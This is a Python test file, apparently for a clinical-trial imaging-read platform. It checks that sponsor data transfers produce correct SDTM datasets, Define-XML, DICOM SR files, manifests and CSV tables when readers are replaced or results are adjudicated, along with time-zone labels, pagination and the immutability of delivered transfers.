    assert set(rs[(rs["USUBJID"] == ADJUDICATED) & (rs["RSEVALID"] == "ADJUDICATOR")]["VISIT"]) == {"WEEK 6"}


# Define-XML 2.0's def:Origin types (the specification's section on def:Origin); "Collected" is Define-XML 2.1's.
DEFINE_2_0_ORIGINS = {"CRF", "Derived", "Assigned", "Protocol", "eDT", "Predecessor"}


def test_every_origin_in_define_xml_is_one_define_xml_2_0_allows(tmp_path):
    from datetime import UTC, datetime

    from odmlib import define_loader
    from odmlib import loader as odm_loader
    from odmlib.define_2_0.rules import metadata_schema as define_2_0_rules

    from reads import define_xml

    sets = sdtm.datasets(sdtm.Delivery(study_id="AC-1", assessments=()))
    document = etree.fromstring(
        define_xml.define_xml(
            study_oid="ALPHA",
            study_name="AC-1",
            study_description="Alpha",
            protocol_name="AC-1",
            datasets=sets,
            files={d.name: f"{d.name.lower()}.xpt" for d in sets},
            created=datetime(2026, 1, 1, tzinfo=UTC),
        )
    )
    assert document.xpath("//odm:MetaDataVersion/@def:DefineVersion", namespaces=NS) == ["2.0.0"]
    origins = set(document.xpath("//def:Origin/@Type", namespaces=NS))
    assert origins <= DEFINE_2_0_ORIGINS, origins - DEFINE_2_0_ORIGINS
    # And odmlib's Define-XML 2.0 conformance rules (beyond the schema) accept the whole document.
    path = tmp_path / "define.xml"
    path.write_bytes(etree.tostring(document, xml_declaration=True, encoding="UTF-8"))
    loader = odm_loader.ODMLoader(define_loader.XMLDefineLoader(model_package="define_2_0", ns_uri=NS["def"]))
    loader.open_odm_document(str(path))
    assert loader.load_odm().verify_conformance(define_2_0_rules.MetadataSchema())
    # What the readers recorded reached the sponsor by electronic data transfer.
    tr_orres = document.xpath("//odm:ItemDef[@OID='IT.TR.TRORRES']/def:Origin/@Type", namespaces=NS)
    assert tr_orres == ["eDT"]


def test_a_trial_title_with_a_control_character_still_gets_a_well_formed_define_xml(world, tmp_path):
    from trials import services

    # A title pasted from a word processor can carry characters XML 1.0 cannot hold (here a vertical tab).
    services.trial_update(actor=world.alice, trial=world.trial, title="Alpha\x0bphase II\x1f study")
    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    document = etree.fromstring(archive.read("sdtm/define.xml"))
    assert document.xpath("//odm:StudyDescription/text()", namespaces=NS) == ["Alpha phase II study"]
    assert etree.XMLSchema(etree.parse(str(DEFINE_SCHEMA))).validate(document)


def test_the_transfers_page_says_which_time_zone_its_cutoffs_are_in(world, client, settings, monkeypatch):
    from reads.models import Transfer as TransferModel

    settings.TIME_ZONE = "Asia/Seoul"
    monkeypatch.setattr(transfers, "enqueue_build", lambda transfer_id: None)
    client.force_login(world.sam)
    # (a cut-off cannot be before the trial was created)
    world.trial.__class__.objects.filter(pk=world.trial.pk).update(created_at="2025-01-01T00:00:00+00:00")
    # A sponsor in another country types the interim cut-off: the page says in which zone it is read.
    client.post("/reads/trials/ALPHA/transfers/", {"cutoff": "2026-01-02T09:00"})
    assert TransferModel.objects.get(trial=world.trial).cutoff.isoformat() == "2026-01-02T00:00:00+00:00"
    page = client.get("/reads/trials/ALPHA/transfers/").content.decode()
    assert "Times on this page are in Asia/Seoul (UTC+09:00)." in page
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "ko"
    page = client.get("/reads/trials/ALPHA/transfers/").content.decode()
    assert "이 페이지의 시각은 Asia/Seoul (UTC+09:00) 기준입니다." in page


def test_each_lesion_carries_the_method_of_the_image_it_was_measured_on(world, tmp_path):
    from trials.models import Series as SeriesModel
    from trials.models import Study

    _baseline(world, AGREE, (world.rhea, world.ravi))
    # The baseline visit also holds a brain MR (a common companion of a chest-abdomen-pelvis CT); every lesion was
    # drawn on the CT.
    study = Study.objects.get(timepoint__subject__code=AGREE, timepoint__visit__code="BL")
    SeriesModel.objects.create(study=study, series_instance_uid="2.25.1", modality="MR", description="Brain")

    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    tu, _meta = read_xpt(archive, "tu", tmp_path)
    assert set(tu["TUMETHOD"]) == {"CT SCAN"}
    tr, _meta = read_xpt(archive, "tr", tmp_path)
    measured = tr[tr["TRTESTCD"].isin(["LDIAM", "LPERP"])]
    assert set(measured["TRMETHOD"]) == {"CT SCAN"}


def _accepted_reader_replaced(world, trial_read, w6=("15.0", "8.0")):
    """AGREE's accepted reader (slot 1, whose reads its locked visits hold) leaves after signing; rita takes the
    slot and reads baseline and week 6 again (by default she calls week 6 a partial response; the locked visit
    stays SD)."""
    from reads.services import assignment_replace
    from tests.conftest import make_user
    from trials import services
    from trials.models import Role

    leaving = world.rhea if trial_read["agree_slot_of_rhea"] == 1 else world.ravi
    rita = make_user("rita")
    services.membership_grant(actor=world.alice, trial=world.trial, user=rita, role=Role.READER)
    assignment = task_of(leaving, "BL", AGREE).assignment
    assignment_replace(actor=world.alice, assignment_id=assignment.pk, trial=world.trial, reader=rita)
    bl = task_of(rita, "BL", AGREE)
    save_and_sign(rita, bl, baseline_content(bl))
    follow_up = task_of(rita, "W6", AGREE)
    save_and_sign(rita, follow_up, follow_up_content(follow_up, *w6))
    return rita


def test_after_the_accepted_reader_is_replaced_a_transfer_delivers_every_evaluator_under_its_own_name(
    world, trial_read, tmp_path
):
    rita = _accepted_reader_replaced(world, trial_read)
    transfer = transfers.transfer_request(actor=world.sam, trial=world.trial)
    archive = transfer_zip(transfer)
    tu, _m = read_xpt(archive, "tu", tmp_path)
    tr, _m = read_xpt(archive, "tr", tmp_path)
    rs, _m = read_xpt(archive, "rs", tmp_path)
    # The retired reader keeps "RADIOLOGIST 1"; the one who took the slot over is an evaluator of their own.
    for frame, prefix in ((tu, "TU"), (tr, "TR"), (rs, "RS")):
        mine = frame[frame["USUBJID"] == AGREE]
        assert set(mine[f"{prefix}EVALID"]) == {"RADIOLOGIST 1", "RADIOLOGIST 2", "RADIOLOGIST 3"}, prefix
    # Exactly one accepted assessment per locked visit: the retired reader's, which the locked results hold.
    overall = rs[(rs["USUBJID"] == AGREE) & (rs["RSTESTCD"] == "OVRLRESP")]
    by = {row["RSEVALID"]: row for row in rows_of(overall)}
    assert {k: (v["RSORRES"], v["RSACPTFL"]) for k, v in by.items()} == {
        "RADIOLOGIST 1": ("SD", "Y"),
        "RADIOLOGIST 2": ("SD", ""),
        "RADIOLOGIST 3": ("PR", ""),
    }
    accepted_tr = tr[(tr["USUBJID"] == AGREE) & (tr["TRACPTFL"] == "Y")]
    assert set(accepted_tr["TREVALID"]) == {"RADIOLOGIST 1"} and set(accepted_tr["VISIT"]) == {"BASELINE", "WEEK 6"}
    assert set(tu[(tu["USUBJID"] == AGREE) & (tu["TUACPTFL"] == "Y")]["TUEVALID"]) == {"RADIOLOGIST 1"}
    assert set(tr[(tr["USUBJID"] == AGREE) & (tr["TREVALID"] == "RADIOLOGIST 3")]["TRLNKGRP"]) == {"BL-R3", "W6-R3"}
    best = {r["RSEVALID"]: r for r in rows_of(rs[(rs["USUBJID"] == AGREE) & (rs["RSTESTCD"] == "BESTRESP")])}
    assert {k: (v["RSORRES"], v["RSACPTFL"]) for k, v in best.items()} == {
        "RADIOLOGIST 1": ("SD", "Y"),
        "RADIOLOGIST 2": ("SD", ""),
        "RADIOLOGIST 3": ("PR", ""),
    }

    # Every evaluator's SRs, under names that do not collide; the newcomer's SR observes as Radiologist 3.
    srs = sorted(n for n in archive.namelist() if n.startswith(f"sr/{AGREE}/"))
    assert srs == [f"sr/{AGREE}/{v}-R{n}.dcm" for v in ("BL", "W6") for n in (1, 2, 3)]
    newcomer = pydicom.dcmread(io.BytesIO(archive.read(f"sr/{AGREE}/W6-R3.dcm")))
    assert newcomer.VerifyingObserverSequence[0].VerifyingObserverName.family_name == "Radiologist 3"
    assert "rita" not in archive.read(f"sr/{AGREE}/W6-R3.dcm").decode("latin-1").lower()

    # The plain tables name the same evaluators.
    subjects = list(csv.DictReader(io.StringIO(archive.read("tables/subjects.csv").decode())))
    rows = {r["series"]: r for r in subjects if r["subject"] == AGREE}
    assert set(rows) == {"Reader 1", "Reader 2", "Reader 3", "Accepted result"}
    assert rows["Accepted result"]["evaluator"] == "RADIOLOGIST 1" and rows["Reader 1"]["accepted"] == "Y"
    assert rows["Reader 3"]["accepted"] == "N" and rows["Reader 3"]["evaluator"] == "RADIOLOGIST 3"
    visits = list(csv.DictReader(io.StringIO(archive.read("tables/visits.csv").decode())))
    w6 = {r["evaluator"]: r for r in visits if r["subject"] == AGREE and r["visit"] == "W6"}
    assert {k: v["accepted"] for k, v in w6.items()} == {"Reader 1": "Y", "Reader 2": "N", "Reader 3": "N"}
    assert {v["accepted_reader"] for v in w6.values()} == {"Reader 1"}

    # define.xml describes the new evaluator and still validates.
    document = etree.fromstring(archive.read("sdtm/define.xml"))
    assert etree.XMLSchema(etree.parse(str(DEFINE_SCHEMA))).validate(document)
    evalids = document.xpath("//odm:CodeList[@Name='EVALID']/odm:EnumeratedItem/@CodedValue", namespaces=NS)
    assert set(evalids) >= {"RADIOLOGIST 1", "RADIOLOGIST 2", "RADIOLOGIST 3", "ADJUDICATOR"}

    # The same cut-off gives the same files.
    again = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial, cutoff=transfer.cutoff))
    assert again.namelist() == archive.namelist()
    for name in archive.namelist():
        if not name.startswith("manifest."):
            assert again.read(name) == archive.read(name), name
    assert rita.email not in archive.read("tables/subjects.csv").decode()


def test_a_visit_locked_after_the_replacement_is_accepted_under_the_newcomer(world, trial_read, tmp_path):
    rita = _accepted_reader_replaced(world, trial_read, w6=("22.0", "12.0"))
    from trials.services import visit_create

    other = world.ravi if trial_read["agree_slot_of_rhea"] == 1 else world.rhea
    visit_create(actor=world.alice, trial=world.trial, code="W12", label="Week 12", order=3, target_day=84)
    ready(world, "W12", day=84, subject=AGREE)
    for reader in (rita, other):
        task = task_of(reader, "W12", AGREE)
        save_and_sign(reader, task, follow_up_content(task, "22.0", "5.0"))  # SD for both: no call to adjudicate
    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    rs, _m = read_xpt(archive, "rs", tmp_path)
    overall = rs[(rs["USUBJID"] == AGREE) & (rs["RSTESTCD"] == "OVRLRESP") & (rs["RSACPTFL"] == "Y")]
    # Each locked visit's one accepted assessment: the retired reader's where the result holds their read, the
    # newcomer's at the visit the newcomer and the other reader settled.
    assert sorted(zip(overall["VISIT"], overall["RSEVALID"], strict=True)) == [
        ("WEEK 12", "RADIOLOGIST 3"),
        ("WEEK 6", "RADIOLOGIST 1"),
    ]
    # The subject-level result is the series compared at week 12: the newcomer's, accepted once.
    best = rs[(rs["USUBJID"] == AGREE) & (rs["RSTESTCD"] == "BESTRESP")]
    assert set(best["RSEVALID"]) == {"RADIOLOGIST 1", "RADIOLOGIST 2", "RADIOLOGIST 3"}
    assert list(best[best["RSACPTFL"] == "Y"]["RSEVALID"]) == ["RADIOLOGIST 3"]
    assert "ADJUDICATOR" not in set(rs[rs["USUBJID"] == AGREE]["RSEVALID"])
    # The plain tables' accepted result is that series too, named as its evaluator.
    subjects = list(csv.DictReader(io.StringIO(archive.read("tables/subjects.csv").decode())))
    rows = {r["series"]: r for r in subjects if r["subject"] == AGREE}
    assert (rows["Accepted result"]["evaluator"], rows["Reader 3"]["accepted"]) == ("RADIOLOGIST 3", "Y")
    assert rows["Reader 1"]["accepted"] == "N"
    assert [n for n in archive.namelist() if n.startswith(f"sr/{AGREE}/W12")] == [
        f"sr/{AGREE}/W12-R2.dcm",
        f"sr/{AGREE}/W12-R3.dcm",
    ]


def _newcomer_accepted_at_week_12(world, trial_read) -> None:
    """The accepted reader of AGREE replaced at week 6 by rita (slot 1, evaluator 3), who and the other reader then
    disagree at week 12 (SD against PR); the adjudicator accepts rita's series."""
    from reads.models import Adjudication
    from trials.services import visit_create

    rita = _accepted_reader_replaced(world, trial_read, w6=("22.0", "12.0"))
    other = world.ravi if trial_read["agree_slot_of_rhea"] == 1 else world.rhea
    visit_create(actor=world.alice, trial=world.trial, code="W12", label="Week 12", order=3, target_day=84)
    ready(world, "W12", day=84, subject=AGREE)
    sd = task_of(rita, "W12", AGREE)
    save_and_sign(rita, sd, follow_up_content(sd, "22.0", "5.0"))
    pr = task_of(other, "W12", AGREE)
    save_and_sign(other, pr, follow_up_content(pr, "15.0", "8.0"))
    results.adjudicate(
        actor=world.ada,
        task_id=Adjudication.objects.get(subject__code=AGREE).task.pk,
        choice="1",
        reason="The newcomer's week 12 is right.",
        password=PASSWORD,
        meaning_confirmed=True,
    )


def test_an_adjudication_after_the_replacement_names_the_newcomer_it_accepted(world, trial_read, tmp_path):
    _newcomer_accepted_at_week_12(world, trial_read)
    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    rs, _m = read_xpt(archive, "rs", tmp_path)
    mine = rs[rs["USUBJID"] == AGREE]
    accepted = mine[mine["RSACPTFL"] == "Y"]
    # Every visit follows the accepted series, rita's (slot 1, evaluator 3); the retired reader's stays on record.
    assert sorted(set(zip(accepted["VISIT"], accepted["RSEVALID"], strict=True))) == [
        ("", "RADIOLOGIST 3"),
        ("WEEK 12", "RADIOLOGIST 3"),
        ("WEEK 6", "RADIOLOGIST 3"),
    ]
    assert {"RADIOLOGIST 1", "ADJUDICATOR"} <= set(mine["RSEVALID"])
    subjects = list(csv.DictReader(io.StringIO(archive.read("tables/subjects.csv").decode())))
    result = next(r for r in subjects if r["subject"] == AGREE and r["series"] == "Accepted result")
    assert (result["evaluator"], result["chosen_reader"]) == ("RADIOLOGIST 3", "Reader 3")
    visits = list(csv.DictReader(io.StringIO(archive.read("tables/visits.csv").decode())))
    decided = [r for r in visits if r["subject"] == AGREE and r["evaluator"] == "Adjudicator"]
    assert decided and {r["accepted_reader"] for r in decided} == {"Reader 3"}


def test_a_cutoff_before_the_trial_existed_is_refused(world, client):
    """Such a cutoff delivers nothing, and a date of centuries ago comes back with its local mean time offset
    (+08:27:52 in Seoul), which is not an RFC 3339 date-time the schema promises."""
    auth = {"HTTP_AUTHORIZATION": f"Bearer {_token(world, world.sam)}"}
    for cutoff in ("0330-03-23T03:00:00Z", "2000-01-01T00:00:00Z"):
        response = client.post(
            "/api/trials/ALPHA/transfers/", {"cutoff": cutoff}, content_type="application/json", **auth
        )
        assert response.status_code == 400, cutoff
        assert "cutoff" in response.json()["error"]["fields"]
    assert not Transfer.objects.exists()
    with pytest.raises(ValidationFailed):
        transfers.transfer_request(actor=world.sam, trial=world.trial, cutoff=world.trial.created_at - timedelta(1))


def _transfers(world, n: int, *, start: int = 1) -> None:
    """`n` ready transfers as rows (what the page lists), each superseding the one before, newest last."""
    from django.utils import timezone

    previous = Transfer.objects.filter(trial=world.trial).order_by("-number").first()
    for number in range(start, start + n):
        previous = Transfer.objects.create(
            trial=world.trial,
            number=number,
            cutoff=timezone.now(),
            requested_by=world.sam,
            requested_at=timezone.now(),
            state=Transfer.State.READY,
            supersedes=previous,
            sha256="0" * 64,
            changes={"ALPHA-SEO-001": {"status": "changed", "visits_added": ["W6"], "visits_changed": []}},
        )


def test_the_transfers_page_is_paged_and_its_heading_counts_them_all(world, client):
    from reads.transfer_views import TRANSFERS_PAGE_SIZE

    _transfers(world, TRANSFERS_PAGE_SIZE + 2)
    client.force_login(world.sam)
    first = client.get("/reads/trials/ALPHA/transfers/").content.decode()
    numbers = [int(n) for n in re.findall(r'data-transfer="(\d+)"', first)]
    assert numbers == list(range(TRANSFERS_PAGE_SIZE + 2, 2, -1))  # newest first
    assert f'<span class="count">{TRANSFERS_PAGE_SIZE + 2}</span>' in first and "?page=2" in first
    second = client.get("/reads/trials/ALPHA/transfers/", {"page": 2}).content.decode()
    assert [int(n) for n in re.findall(r'data-transfer="(\d+)"', second)] == [2, 1]


def test_the_transfers_page_does_not_query_more_with_more_transfers(world, client, django_assert_max_num_queries):
    from reads.transfer_views import TRANSFERS_PAGE_SIZE

    client.force_login(world.sam)
    _transfers(world, 1)
    client.get("/reads/trials/ALPHA/transfers/")  # the session and caches warmed
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as one:
        assert client.get("/reads/trials/ALPHA/transfers/").status_code == 200
    _transfers(world, TRANSFERS_PAGE_SIZE * 2, start=2)
    with django_assert_max_num_queries(len(one)):
        page = client.get("/reads/trials/ALPHA/transfers/")
    assert page.content.decode().count("data-transfer=") == TRANSFERS_PAGE_SIZE


def test_an_sr_signed_before_readers_were_numbered_as_evaluators_is_named_in_the_manifest(
    world, trial_read, monkeypatch
):
    """Before evaluator numbers, the reader who took a case over signed SRs naming the slot ("Radiologist 1"),
    and a result SR accepting their read said "(Radiologist 1 accepted)"; those SRs ship as -R3 and -result
    files. Signed SRs never change, so the manifest says which files name whom."""
    from reads.models import ReaderAssignment

    with monkeypatch.context() as old_release:
        old_release.setattr(
            ReaderAssignment,
            "reader_code",
            property(lambda self: f"Radiologist {self.slot}" if self.slot in (1, 2) else "Adjudicator"),
        )
        _newcomer_accepted_at_week_12(world, trial_read)
    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    old = pydicom.dcmread(io.BytesIO(archive.read(f"sr/{AGREE}/W6-R3.dcm")))
    assert old.VerifyingObserverSequence[0].VerifyingObserverName.family_name == "Radiologist 1"  # as signed
    manifest = json.loads(archive.read("manifest.json"))
    wrong = {"sr_names": "Radiologist 1", "evaluator": "Radiologist 3"}
    assert manifest["sr_observer_mismatches"] == [
        {"path": f"sr/{AGREE}/{visit}-{kind}.dcm", **wrong}
        for visit in ("BL", "W12", "W6")
        for kind in ("R3", "result")
    ]
    assert any("-R3" in note and "never change" in note for note in manifest["notes"])
    # The other SRs (the other readers', the retired reader's, the adjudicated subject's) name theirs right.
    assert not [m for m in manifest["sr_observer_mismatches"] if ADJUDICATED in m["path"] or "-R1" in m["path"]]


def _csvs(world) -> list[tuple[str, bytes]]:
    archive = transfer_zip(Transfer.objects.filter(trial=world.trial).latest("number"))
    return [(name, archive.read(name)) for name in archive.namelist() if name.endswith(".csv")]


def test_a_transfer_whose_srs_name_their_evaluators_lists_no_mismatch(world, trial_read):
    _accepted_reader_replaced(world, trial_read)
    manifest = json.loads(
        transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial)).read("manifest.json")
    )
    assert manifest["sr_observer_mismatches"] == []
    # Every transfer says how its CSVs are encoded and how Excel opens them.
    assert [note for note in manifest["notes"] if "byte-order mark" in note and "65001" in note]
    assert all(not data.startswith(b"\xef\xbb\xbf") for name, data in _csvs(world))


def test_the_visits_table_says_which_visit_the_adjudicator_decided(world, trial_read):
    """ADJUDICATED's readers agreed at baseline and disagreed at week 6: its baseline result follows the decision
    (`adjudicated` Y, as delivered so far) but only week 6 was decided, as the results CSV, the API and the
    reader-quality report in the same zip count it."""
    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    visits = list(csv.DictReader(io.StringIO(archive.read("tables/visits.csv").decode())))
    rows = {(r["subject"], r["visit"], r["evaluator"]): r for r in visits}
    for evaluator in ("Reader 1", "Reader 2", "Adjudicator"):
        baseline, week_6 = rows[(ADJUDICATED, "BL", evaluator)], rows[(ADJUDICATED, "W6", evaluator)]
        assert (baseline["adjudicated"], baseline["decided_by_adjudicator"]) == ("Y", "N"), evaluator
        assert (week_6["adjudicated"], week_6["decided_by_adjudicator"]) == ("Y", "Y"), evaluator
    assert {r["decided_by_adjudicator"] for r in visits if r["subject"] == AGREE} == {"N"}
    header = list(csv.reader(io.StringIO(archive.read("tables/visits.csv").decode())))[0]
    # New columns come after the ones consumers already read by position.
    assert header[header.index("adjudication_reason") + 1 :] == [
        "decided_by_adjudicator",
        "signed_by",
        "signed_at",
        "signature_meaning",
    ]
    notes = json.loads(archive.read("manifest.json"))["notes"]
    assert [note for note in notes if "decided_by_adjudicator" in note]


def test_in_a_zone_with_summer_time_the_pages_give_both_offsets(world, client, settings):
    """A cut-off shown in July in Europe/Berlin is UTC+02:00; the page said "(UTC+01:00)" all winter long, an
    hour off for every summer time on it."""
    settings.TIME_ZONE = "Europe/Berlin"
    client.force_login(world.sam)
    page = client.get("/reads/trials/ALPHA/transfers/").content.decode()
    assert "Times on this page are in Europe/Berlin (UTC+01:00; UTC+02:00 in daylight saving time)." in page
    settings.TIME_ZONE = "Europe/Dublin"  # whose winter time zoneinfo flags as a negative daylight saving
    page = client.get("/reads/trials/ALPHA/transfers/").content.decode()
    assert "Europe/Dublin (UTC+00:00; UTC+01:00 in daylight saving time)" in page
    settings.TIME_ZONE = "Australia/Sydney"  # summer in January
    page = client.get("/reads/trials/ALPHA/transfers/").content.decode()
    assert "Australia/Sydney (UTC+10:00; UTC+11:00 in daylight saving time)" in page
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "ko"
    page = client.get("/reads/trials/ALPHA/transfers/").content.decode()
    assert "Australia/Sydney (UTC+10:00, 일광 절약 시간에는 UTC+11:00)" in page


def test_a_cutoff_without_an_offset_is_read_in_the_server_zone_as_the_schema_says(world, api, settings, monkeypatch):
    settings.TIME_ZONE = "Asia/Seoul"
    monkeypatch.setattr(transfers, "enqueue_build", lambda transfer_id: None)
    world.trial.__class__.objects.filter(pk=world.trial.pk).update(created_at="2025-01-01T00:00:00+00:00")
    body = api.as_(world.sam).post("/api/trials/ALPHA/transfers/", {"cutoff": "2026-01-02T09:00:00"}).json()
    assert body["cutoff"] == "2026-01-02T09:00:00+09:00"
    assert Transfer.objects.get(number=body["number"]).cutoff.isoformat() == "2026-01-02T00:00:00+00:00"
    schema = api.as_(world.sam).get("/api/schema/", {"format": "json"}).json()
    assert (
        "server's time zone"
        in schema["components"]["schemas"]["TransferInRequest"]["properties"]["cutoff"]["description"]
    )


def test_a_trial_whose_images_keep_no_dates_is_not_said_to_deliver_any(world, client, settings):
    """With retained (shifted) dates off, the images carry no scan dates: no real date or study day can be
    delivered. The transfer, its manifest, the API and the page said "real dates and study days" all the same."""
    world.trial.__class__.objects.filter(pk=world.trial.pk).update(deid_retain_dates_modified=False)
    world.trial.refresh_from_db()
    transfers.delivery_settings_set(actor=world.alice, trial=world.trial, real_dates=True)
    _baseline(world, AGREE, (world.rhea, world.ravi))
    transfer = transfers.transfer_request(actor=world.sam, trial=world.trial)
    archive = transfer_zip(transfer)
    assert transfer.real_dates is False
    assert json.loads(archive.read("manifest.json"))["real_dates"] is False
    visits = list(csv.DictReader(io.StringIO(archive.read("tables/visits.csv").decode())))
    assert {(r["scan_date"], r["study_day"]) for r in visits} == {("", "")}
    client.force_login(world.alice)
    page = client.get("/reads/trials/ALPHA/transfers/").content.decode()
    assert "Scan dates: none: this trial's images keep no dates, so transfers carry no study days either." in page
    assert "real dates and study days" not in page
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "ko"
    page = client.get("/reads/trials/ALPHA/transfers/").content.decode()
    assert "이 임상시험의 영상에는 날짜가 남지 않으므로" in page


def test_the_transfers_page_says_what_a_transfer_holds(world, client, settings):
    """It said "both readers'" (a reader who took a case over is a third) and left out the reader-quality report."""
    client.force_login(world.sam)
    page = client.get("/reads/trials/ALPHA/transfers/").content.decode()
    assert "every reader's and the adjudicator's records" in page and "the reader-quality report" in page
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "ko"
    assert "판독자 품질 보고서" in client.get("/reads/trials/ALPHA/transfers/").content.decode()


def test_a_delivered_transfer_never_changes_in_the_database(world, trial_read):
    """A transfer once ready is what the sponsor has (its SHA-256, its cut-off, what changed since the one before):
    the database refuses to change or delete it; one still queued moves on."""
    from django.db import DatabaseError, transaction

    delivered = transfers.transfer_request(actor=world.sam, trial=world.trial)
    transfer_zip(delivered)
    for change in (
        lambda: Transfer.objects.filter(pk=delivered.pk).update(sha256="0" * 64),
        lambda: Transfer.objects.filter(pk=delivered.pk).delete(),
    ):
        with pytest.raises(DatabaseError, match="never changes"), transaction.atomic():
            change()
    assert Transfer.objects.get(pk=delivered.pk).sha256 == delivered.sha256


def test_every_output_gives_no_new_lesion_assessment_at_baseline(world, trial_read, client, tmp_path):
    """RECIST 1.1 assesses new lesions at follow-ups only: the results CSV, the API, the transfer's visits table
    and RS all leave the baseline's empty (no "NONE") and give the follow-up's."""
    client.force_login(world.sam)
    rows = list(csv.DictReader(io.StringIO(client.get("/reads/trials/ALPHA/results.csv").content.decode())))
    by_visit = {row["visit"]: row["new_lesions"] for row in rows if row["subject"] == AGREE}
    assert by_visit == {"BL": "", "W6": "NONE"}
    auth = {"HTTP_AUTHORIZATION": f"Bearer {_token(world, world.sam)}"}
    api = client.get("/api/trials/ALPHA/read-results/", **auth).json()["results"]
    assert {r["visit"]: r["new_lesions"] for r in api if r["subject"] == AGREE} == {"BL": "", "W6": "NONE"}
    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    visits = list(csv.DictReader(io.StringIO(archive.read("tables/visits.csv").decode())))
    assert {(r["visit"], r["new_lesions"]) for r in visits if r["subject"] == AGREE and r["accepted"] == "Y"} == {
        ("BL", ""),
        ("W6", "NONE"),
    }
    rs, _meta = read_xpt(archive, "rs", tmp_path)
    newlprog = rs[(rs["USUBJID"] == AGREE) & (rs["RSTESTCD"] == "NEWLPROG")]
    assert set(newlprog["VISIT"]) == {"WEEK 6"} and set(newlprog["RSORRES"]) == {"N"}


def test_a_baseline_signed_with_new_lesions_none_is_given_without_it():
    """Baselines signed before outputs agreed keep "NONE" in their signed assessment; no output gives it."""
    from reads.assessment import assess_baseline, new_lesions_assessed
    from reads.content import parse_content

    assert new_lesions_assessed({"baseline": True, "new_lesions": "NONE"}) == ""
    assert new_lesions_assessed({"baseline": False, "new_lesions": "EQUIVOCAL"}) == "EQUIVOCAL"
    assert new_lesions_assessed(None) == ""
    assert assess_baseline(parse_content({"targets": [], "non_targets": [], "new": []}))["new_lesions"] is None


def _second_adjudication_for_the_other_reader(world, trial_read) -> None:
    """ADJUDICATED, settled at week 6 for one reader's series, goes to adjudication again at week 12, where the
    adjudicator accepts the other reader's series: the baseline's and week 6's result SRs are replaced."""
    from reads.models import Adjudication
    from trials.services import visit_create

    visit_create(actor=world.alice, trial=world.trial, code="W12", label="Week 12", order=3, target_day=84)
    ready(world, "W12", day=84, subject=ADJUDICATED)
    for reader, (t1, t2) in ((world.rhea, ("15.0", "8.0")), (world.ravi, ("30.0", "13.0"))):  # PR against PD
        task = task_of(reader, "W12", ADJUDICATED)
        save_and_sign(reader, task, follow_up_content(task, t1, t2))
    results.adjudicate(
        actor=world.ada,
        task_id=Adjudication.objects.get(subject__code=ADJUDICATED, signature__isnull=True).task.pk,
        choice=str(trial_read["other"]),
        reason="On review the other reader's series is right.",
        password=PASSWORD,
        meaning_confirmed=True,
    )


def test_the_srs_a_correction_or_an_adjudication_replaced_are_delivered_and_the_manifest_says_which(world, trial_read):
    """Sponsors see the history of a corrected result: every SR a current one replaced is in the zip under
    superseded/, each current SR's Predecessor Documents Sequence names only SRs the zip holds, and the manifest
    says which SR replaces which."""
    from reads import read_services

    # UNLOCKED: rhea corrects her signed baseline before ravi's signature locks the visit.
    rhea_bl = task_of(world.rhea, "BL", UNLOCKED)
    read_services.read_correct(actor=world.rhea, task_id=rhea_bl.pk)
    save_and_sign(world.rhea, rhea_bl, baseline_content(rhea_bl, t1="24.0"))
    ravi_bl = task_of(world.ravi, "BL", UNLOCKED)
    save_and_sign(world.ravi, ravi_bl, baseline_content(ravi_bl))
    _second_adjudication_for_the_other_reader(world, trial_read)

    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    names = set(archive.namelist())
    manifest = json.loads(archive.read("manifest.json"))
    rhea = rhea_bl.assignment.evaluator_number
    chosen, other = trial_read["chosen"], trial_read["other"]
    assert sorted(n for n in names if "/superseded/" in n) == [
        f"sr/{ADJUDICATED}/superseded/BL-result-v2.dcm",
        f"sr/{ADJUDICATED}/superseded/W6-result-v1.dcm",
        f"sr/{UNLOCKED}/superseded/BL-R{rhea}-v1.dcm",
    ]
    assert manifest["sr_replacements"] == [
        {
            "sr": f"sr/{ADJUDICATED}/BL-result.dcm",
            "replaces": f"sr/{ADJUDICATED}/superseded/BL-result-v2.dcm",
            "why": "result changed by adjudication",
        },
        {
            "sr": f"sr/{ADJUDICATED}/W6-result.dcm",
            "replaces": f"sr/{ADJUDICATED}/superseded/W6-result-v1.dcm",
            "why": "result changed by adjudication",
        },
        {
            "sr": f"sr/{ADJUDICATED}/superseded/BL-result-v2.dcm",
            "replaces": f"sr/{ADJUDICATED}/BL-R1.dcm",  # the baseline first locked by agreement, on reader 1's SR
            "why": "result changed by adjudication",
        },
        {
            "sr": f"sr/{UNLOCKED}/BL-R{rhea}.dcm",
            "replaces": f"sr/{UNLOCKED}/superseded/BL-R{rhea}-v1.dcm",
            "why": "read corrected",
        },
    ]
    # Every SR an SR of the zip names as its predecessor is in the zip too: none is missing from the history.
    srs = {n: pydicom.dcmread(io.BytesIO(archive.read(n))) for n in names if n.endswith(".dcm")}
    delivered = {sr.SOPInstanceUID for sr in srs.values()}
    named = {
        item.ReferencedSOPSequence[0].ReferencedSOPInstanceUID
        for sr in srs.values()
        for study in sr.get("PredecessorDocumentsSequence", [])
        for item in study.ReferencedSeriesSequence
    }
    assert named and named <= delivered
    # A corrected read's SR names the version it corrected; a replaced result SR is named by the one after it.
    for entry in manifest["sr_replacements"]:
        if "/superseded/" in entry["replaces"]:
            replaced = srs[entry["replaces"]].SOPInstanceUID
            assert any(
                item.ReferencedSOPSequence[0].ReferencedSOPInstanceUID == replaced
                for study in srs[entry["sr"]].PredecessorDocumentsSequence
                for item in study.ReferencedSeriesSequence
            ), entry
    assert f"sr/{ADJUDICATED}/W12-result.dcm" in names and {chosen, other} == {1, 2}
    listed = {entry["path"] for entry in manifest["files"]}
    assert {n for n in names if "/superseded/" in n} <= listed


